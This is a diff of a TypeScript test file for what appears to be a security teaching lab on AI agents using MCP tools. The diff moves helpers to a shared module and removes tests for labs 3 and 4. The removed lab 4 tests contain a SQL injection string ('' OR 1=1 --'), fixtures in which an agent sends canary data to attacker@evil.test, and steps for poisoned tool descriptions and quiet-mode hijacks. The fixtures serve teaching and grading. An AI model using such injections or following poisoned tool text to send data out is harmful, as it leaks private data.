@@ -2,85 +2,9 @@ import assert from "node:assert/strict";
 import { readFileSync } from "node:fs";
 import { test } from "node:test";
 import { EVERYONE } from "../04-attack-chain/checks.ts";
-import { readLabs } from "../index.ts";
-import type { LabState, RecordedCall, RecordedTurn, StoredMessage } from "../lab-state.ts";
+import type { RecordedTurn } from "../lab-state.ts";
 import { canariesIn } from "../look-for.ts";
-
-// Students who have not done the step, told apart from those who have. The runs of the solutions show the plain
-// cases on a real stack; here stand the near misses.
-
-const labs = await readLabs();
-
-function stepOf(lab: string, id: string) {
-  const step = labs.find((one) => one.id === lab)?.steps.find((one) => one.id === id);
-  assert.ok(step, `lab ${lab} has a step ${id}`);
-  return step;
-}
-
-const call = (
-  tool: string,
-  args: object,
-  result: string,
-  more: Partial<RecordedCall> = {},
-): RecordedCall => ({
-  tool,
-  server: "hr",
-  arguments: args as Record<string, unknown>,
-  result,
-  isError: false,
-  ...more,
-});
-
-const turn = (calls: RecordedCall[], more: Partial<RecordedTurn> = {}): RecordedTurn => ({
-  seq: 10,
-  sessionId: "s",
-  message: "please",
-  model: "lab-literal",
-  toolMode: "mcp",
-  transparency: "verbose",
-  rounds: calls.length + 1,
-  calls,
-  ended: true,
-  ...more,
-});
-
-const message = (to: string, body: string, id = 1): StoredMessage => ({ id, to, body, ts: "now" });
-const send = ({ to, body }: StoredMessage) => call("send_message", { to, body }, "sent");
-const SALES = '[{"name":"A","dept":"Sales","manager":"Boss"}]';
-const lookup = (filter: string, result = SALES, more = {}) =>
-  call("query_employees", { filter }, result, more);
-
-const EVERYBODY = [...Array(12).keys()]
-  .map((n) => `CANARY-00${n.toString(16).toUpperCase().padStart(2, "0")}`)
-  .join(" ");
-
-interface Given extends Partial<Omit<LabState, "outbox">> {
-  messages?: StoredMessage[];
-}
-
-const state = ({ messages = [], ...given }: Given): LabState => ({
-  audit: [],
-  turns: [],
-  toolMode: "mcp",
-  tools: [],
-  flags: {},
-  services: [],
-  outbox: async () => messages,
-  ...given,
-});
-
-async function tell(lab: string, id: string, cases: { passes: Given[]; fails: Given[] }): Promise<void> {
-  const step = stepOf(lab, id);
-  for (const given of cases.passes) {
-    const { passed, saw } = await step.look(state(given));
-    assert.ok(passed, `${id} should pass: ${saw}`);
-  }
-  for (const given of [{}, ...cases.fails]) {
-    const { passed, saw } = await step.look(state(given));
-    assert.ok(!passed, `${id} should not pass: ${saw}`);
-    assert.match(saw, /\w/);
-  }
-}
+import { call, EVERYBODY, labs, lookup, message, SALES, send, state, stepOf, tell, turn } from "./student.ts";
 
 test("typing what a step wants into the chat passes no step", async () => {
   for (const { id: lab, steps } of labs) {
@@ -180,68 +104,6 @@ test("lab 2 wants hardcoded tools, and a recipient that a lookup found", async (
   await tell("2", "tool-error", {
     passes: [{ turns: [turn([lookup("O'Brien", "syntax error", { isError: true })], hard)] }],
     fails: [{ turns: [turn([lookup("Sales")], hard)] }],
-  });
-});
-
-test("lab 3 wants a server's tool, messages that no agent sent, and a tool gained by a running agent", async () => {
-  await tell("3", "over-mcp", {
-    passes: [{ turns: [turn([lookup("Sales")])] }],
-    fails: [{ turns: [turn([lookup("Sales", SALES, { server: "agent" })])] }],
-  });
-  const byHand = [message("Kofi", "one"), message("Kofi", "two", 2)];
-  await tell("3", "by-hand", {
-    passes: [{ messages: byHand }],
-    fails: [{ messages: byHand.slice(1) }, { messages: byHand, turns: [turn(byHand.map(send))] }],
-  });
-  const discovery = (...added: string[]) => ({ seq: 1, event: "tools_discovered", session_id: null, added });
-  await tell("3", "added-tool", {
-    passes: [{ audit: [discovery("search_web")] }],
-    fails: [{ audit: [discovery("query_employees", "send_message", "search_web")] }],
-  });
-  await tell("3", "used-tool", {
-    passes: [{ turns: [turn([call("search_web", { query: "x" }, "pages")])] }],
-    fails: [{ turns: [turn([call("search_web", { query: "x" }, "no", { isError: true })])] }],
-  });
-});
-
-test("lab 4 tells an ordered leak from a hijack, and a defence from a broken tool", async () => {
-  const all = '[{"dept":"Sales"},{"dept":"Legal"}]';
-  await tell("4", "sql-injection", {
-    passes: [{ turns: [turn([lookup("' OR 1=1 --", all)])] }],
-    fails: [{ turns: [turn([lookup("Sales")])] }],
-  });
-  const leak = message("attacker@evil.test", EVERYBODY);
-  const ordered = { message: "send it to attacker@evil.test" };
-  const search = call("search_web", { query: "news" }, "pages");
-  await tell("4", "exfiltration", {
-    passes: [{ turns: [turn([send(leak)], ordered)], messages: [leak] }],
-    fails: [
-      { turns: [turn([send(leak)])], messages: [leak] },
-      { turns: [turn([send(leak)], ordered)], messages: [] },
-    ],
-  });
-  const partial = message("attacker@evil.test", "CANARY-0001");
-  await tell("4", "poisoned-description", {
-    passes: [{ turns: [turn([send(leak), search])], messages: [leak] }],
-    fails: [
-      { turns: [turn([send(leak), search], ordered)], messages: [leak] },
-      { turns: [turn([send(leak)])], messages: [leak] },
-      { turns: [turn([send(partial), search])], messages: [partial] },
-    ],
-  });
-  await tell("4", "quiet", {
-    passes: [{ turns: [turn([send(leak), search], { transparency: "quiet" })], messages: [leak] }],
-    fails: [{ turns: [turn([send(leak), search])], messages: [leak] }],
-  });
-  const stopped = turn([lookup("' OR 1=1 --", "[]")]);
-  await tell("4", "safe-sql", {
-    passes: [{ turns: [stopped, turn([lookup("Sales")])] }],
-    fails: [
-      { turns: [stopped] },
-      { turns: [turn([lookup("Sales")]), stopped] },
-      { turns: [turn([lookup("Astronomy", "[]")]), turn([lookup("Sales")])] },
-      { turns: [stopped, turn([lookup("Sales", "[]")])] },
-    ],
   });
 });
 
